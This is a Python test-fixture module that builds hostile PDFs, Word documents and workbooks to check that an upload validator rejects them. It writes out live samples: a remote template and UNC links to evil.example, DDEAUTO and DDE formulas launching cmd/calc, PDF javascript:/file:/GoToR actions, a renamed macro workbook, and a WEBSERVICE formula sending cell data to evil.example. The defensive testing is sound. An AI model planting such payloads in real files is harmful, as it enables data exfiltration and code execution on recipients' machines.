"""Files with active content (issue 24.5), built in memory: each a real PDF, Word document or workbook that
opens, carrying one thing that runs, calls out or hides a file. Shared by tests/unit/test_uploads.py and
tests/functional/test_hostile_uploads.py; ``ACTIVE_CONTENT`` maps a name to (file name, bytes, the reason
``core.uploads.content_problem`` gives)."""

import functools
import io
import zipfile

from openpyxl import Workbook

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def pdf_with(catalog_entry: bytes) -> bytes:
    """The one-page PDF with ``catalog_entry`` in its catalog (an /OpenAction, /AcroForm, /AF...)."""
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + catalog_entry)


def _rezip(data: bytes, *, add: dict[str, str | bytes] | None = None, edit=None) -> bytes:
    """``data`` (a zip) with members added or replaced, and ``edit(name, bytes) -> bytes`` applied to each."""
    add = add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename in add:
                continue
            content = source.read(item.filename)
            target.writestr(item.filename, edit(item.filename, content) if edit else content)
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


@functools.cache
def xlsx(*formulas: str) -> bytes:
    """A real workbook (openpyxl) with a title and one formula per row in column B."""
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"] = "Capaian"
    for row, formula in enumerate(formulas, start=2):
        sheet.cell(row=row, column=2, value=formula)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx(body: str = "<w:p><w:r><w:t>Surat keputusan</w:t></w:r></w:p>", extra: dict | None = None) -> bytes:
    """A minimal Word document that Word opens: content types, package relationships, the document part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{PKG_RELS}"><Relationship Id="rId1" '
            f'Type="{R_NS}/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        archive.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>',
        )
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_remote_template() -> bytes:
    """Word's "attached template" fetched from a server when the document opens (template injection)."""
    return docx(
        extra={
            "word/settings.xml": f'<?xml version="1.0"?><w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{PKG_RELS}">'
            f'<Relationship Id="rId1" Type="{R_NS}/attachedTemplate" '
            'Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>',
        }
    )


def docx_dde_field() -> bytes:
    """A DDEAUTO field split over two runs, as attackers write it."""
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE'
        "</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc.exe</w:instrText>"
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def xlsx_external_link() -> bytes:
    """A workbook linked to another workbook on a server (an external link part and its relationship)."""
    return _rezip(
        xlsx("SUM(B2:B3)"),
        add={
            "xl/externalLinks/externalLink1.xml": '<?xml version="1.0"?><externalLink xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="'
            f'{R_NS}"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="'
            f'{PKG_RELS}"><Relationship Id="rId1" Type="{R_NS}/externalLinkPath" '
            'Target="file:///\\\\evil.example\\share\\data.xlsx" TargetMode="External"/></Relationships>',
        },
    )


def xlsm_renamed() -> bytes:
    """A macro-enabled workbook (its content type and vbaProject.bin) saved under the name .xlsx."""

    def macro_enabled(name, content):
        if name != "[Content_Types].xml":
            return content
        return content.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ).replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        )

    return _rezip(
        xlsx(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504}, edit=macro_enabled
    )


# name -> (file name, bytes, reason); each is refused at every upload point that takes its type.
ACTIVE_CONTENT = {
    "PDF with an XFA form": ("formulir.pdf", pdf_with(b"/AcroForm<</Fields[]/XFA(<xdp:xdp/>)>>"), "pdf_xfa"),
    "PDF with an associated file": (
        "laporan.pdf",
        pdf_with(b"/AF[<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>]"),
        "pdf_embedded_file",
    ),
    "PDF opening another file (GoToR)": (
        "laporan.pdf",
        pdf_with(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>"),
        "pdf_external_action",
    ),
    "PDF with a javascript: link": (
        "laporan.pdf",
        pdf_with(b"/OpenAction<</S/URI/URI(javascript:app.alert(1))>>"),
        "pdf_uri",
    ),
    "PDF with a file: link": ("laporan.pdf", pdf_with(b"/OpenAction<</S/URI/URI(file:///C:/x/calc.exe)>>"), "pdf_uri"),
    "docx with a remote template": ("surat.docx", docx_remote_template(), "docx_remote_template"),
    "docx with a DDEAUTO field": ("surat.docx", docx_dde_field(), "docx_live_field"),
    "xlsx with a DDE formula": ("isian.xlsx", xlsx("=cmd|' /C calc'!A0"), "xlsx_live_formula"),
    "xlsx with a UNC formula": (
        "isian.xlsx",
        xlsx("='\\\\evil.example\\share\\[a.xlsx]Data'!A1"),
        "xlsx_live_formula",
    ),
    "xlsx with a WEBSERVICE formula": (
        "isian.xlsx",
        xlsx('=WEBSERVICE("http://evil.example/?d="&A1)'),
        "xlsx_live_formula",
    ),
    "xlsx with an external link": ("isian.xlsx", xlsx_external_link(), "xlsx_external_link"),
    ".xlsm renamed .xlsx": ("isian.xlsx", xlsm_renamed(), "office_macro"),
}

# Ordinary files that must still pass: links to web pages, a formula, a hyperlink relationship.
ORDINARY = {
    "PDF with a web link": ("laporan.pdf", pdf_with(b"/OpenAction<</S/URI/URI(https://spm.kemendagri.go.id/)>>")),
    "xlsx with ordinary formulas": ("isian.xlsx", xlsx("=SUM(B3:B4)", '=IF(A1="a|b",1,0)', "=B3*100/B4")),
    "docx with a page field": (
        "surat.docx",
        docx('<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'),
    ),
}
